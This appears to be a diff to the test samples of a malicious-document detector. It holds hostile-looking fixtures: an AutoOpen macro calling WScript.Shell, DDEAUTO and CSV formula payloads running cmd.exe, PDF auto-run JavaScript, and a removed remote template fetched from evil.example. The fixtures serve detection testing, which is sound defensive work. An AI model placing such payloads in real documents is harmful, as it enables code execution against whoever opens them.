@@ -123,14 +123,13 @@ SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
         [OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + b'Sub AutoOpen() CreateObject("WScript.Shell").Run'],
         [OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + b"Sub Format()", b"AutoOpen WScript.Shell"],
     ),
-    "ooxml_remote_template": (
-        [b'<Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'],
-        [b'<Relationship Type="http://x/relationships/attachedTemplate" Target="Normal.dotm" TargetMode="Internal"/>',
-         b'<Relationship Type="http://x/relationships/hyperlink" Target="http://a.example/" TargetMode="External"/>'],
+    "office_dde_formula": (
+        [b"{\\rtf1 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe x}", b"a,b\n=cmd|'/c calc'!A1\n"],
+        [b"a,b\n=SUM(A1:A2)\n", b"he said DDE and cmd"],
     ),
-    "office_dde_command": (
-        [b'<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>', b"a,b\n=cmd|'/c calc'!A1\n"],
-        [b"<w:instrText>PAGE</w:instrText>", b"a,b\n=SUM(A1:A2)\n", b"he said DDE and cmd"],
+    "office_markup": (
+        [b'<Relationship Id="a"/>', "<w:instrText>".encode("utf-16-le"), b"\xfe\xff" + "<Relationship ".encode("utf-16-be")],
+        [b"<p>Relationship</p>", b"instrText"],
     ),
     "pdf_javascript_on_open": (
         [b"%PDF-1.7\n<</OpenAction 2 0 R>> <</S /JavaScript /JS (x)>>", b"%PDF-1.7\n<</OpenAction<</S/JavaScript/JS 5 0 R>>>>"],
